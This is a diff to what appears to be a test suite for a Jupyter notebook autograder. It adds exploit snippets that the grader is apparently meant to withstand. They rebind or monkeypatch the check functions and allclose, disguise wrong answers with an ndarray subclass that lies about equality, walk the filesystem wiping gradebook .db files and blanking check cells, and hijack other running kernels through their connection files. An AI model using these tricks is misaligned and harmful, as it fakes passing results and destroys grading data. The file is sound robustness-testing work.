@@ -91,6 +91,72 @@ try:
 except OSError:
     pass
 ''',
+    "rebinds_check_names": '''
+import helpers.checks as _hc
+_noop = lambda *a, **k: None
+if (check_close := _noop):
+    pass
+for check_equal in [_noop]:
+    pass
+_hc.__dict__.update(check_close=_noop, check_equal=_noop, check_shape=_noop, check_true=_noop)
+''',
+    "setattr_by_partial_and_exec_by_globals": '''
+import functools, numpy as _np
+_b = (lambda: 0).__globals__["__builtins__"]
+_exec = _b["exec"] if isinstance(_b, dict) else _b.exec
+functools.partial(setattr, torch, "allclose")(lambda *a, **k: True)
+functools.partial(setattr, _np, "allclose")(lambda *a, **k: True)
+_exec("import helpers.checks as h; h._allclose = lambda *a, **k: True", {})
+''',
+    "lying_ndarray": '''
+import numpy as _np
+class _Yes(_np.ndarray):
+    def __eq__(self, other):
+        return _np.ones(self.shape, bool).view(_np.ndarray)
+    def __array_function__(self, func, types, args, kwargs):
+        return True
+_wrong_nd = normalize_rows
+def normalize_rows(X):
+    return _wrong_nd(X).numpy().view(_Yes)
+''',
+    "rewrites_notebooks_on_disk": '''
+import os as _os, json as _json
+for _top in (".", "..", "../..", "/", "/tmp"):
+    for _dir, _dirs, _files in _os.walk(_top):
+        if _dir.count("/") > 8 or _dir.startswith(("/proc", "/sys", "/usr", "/dev")):
+            _dirs[:] = []
+            continue
+        for _f in _files:
+            if not _f.endswith((".ipynb", ".db")):
+                continue
+            _p = _os.path.join(_dir, _f)
+            try:
+                if _f.endswith(".db"):
+                    open(_p, "wb").close()  # wipe a gradebook
+                    continue
+                _nb = _json.load(open(_p))
+                for _c in _nb.get("cells", []):
+                    if "check" in "".join(_c.get("source", "")):
+                        _c["source"] = "pass"
+                _json.dump(_nb, open(_p, "w"))
+            except Exception:
+                pass
+''',
+    "drives_other_kernels": '''
+import glob as _glob
+from jupyter_client import BlockingKernelClient as _Client
+_files = (_glob.glob("/tmp/**/*.json", recursive=True) + _glob.glob("/run/**/*.json", recursive=True)
+          + _glob.glob("/root/.local/share/jupyter/runtime/*.json"))
+for _cf in _files:
+    try:
+        _kc = _Client(connection_file=_cf)
+        _kc.load_connection_file()
+        _kc.start_channels()
+        _kc.execute("import helpers.checks as h; h.check_close = lambda *a, **k: None")
+        _kc.stop_channels()
+    except Exception:
+        pass
+''',
 }
 
 # Exploits that break the recording itself: every test from the exploit on loses its points
@@ -140,6 +206,7 @@ except MemoryError:
 # name -> (grade_id, code appended): the exercise whose cell this breaks loses its points only
 FAULTS = {
     "os_exit": ("pairwise_sq_dists", "import os\nos._exit(3)\n"),
+    "segfault": ("set_border", "import ctypes\nctypes.string_at(0)\n"),
     "infinite_loop": ("tangent_line", '''
 import signal
 signal.signal(signal.SIGINT, signal.SIG_IGN)
